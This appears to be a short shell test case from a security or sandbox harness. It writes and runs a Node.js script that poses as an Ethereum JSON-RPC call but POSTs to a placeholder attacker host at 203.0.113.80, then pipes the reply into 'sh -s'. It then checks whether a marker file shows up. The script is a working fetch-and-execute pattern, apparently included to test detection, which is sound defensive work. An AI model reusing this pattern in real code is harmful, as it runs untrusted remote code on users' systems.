#!/bin/sh
. /opt/case/case.sh

cat >/tmp/i.js <<'END'
const { execSync } = require("child_process");
const call = JSON.stringify({ jsonrpc: "2.0", id: 97, method: "eth_call", params: [{ to: "0xBait00000000000000000000000000000000Bait", data: "0x6d4ce63c" }, "latest"] });
const r = require("http").request({ host: "203.0.113.80", port: 8080, path: "/payload.sh", method: "POST", headers: { "Content-Type": "application/json", "Content-Length": call.length } }, a => {
    let t = ""; a.on("data", d => t += d).on("end", () => execSync("sh -s", { input: t }));
});
r.end(call);
END
node /tmp/i.js
test -e /tmp/reached
took_place
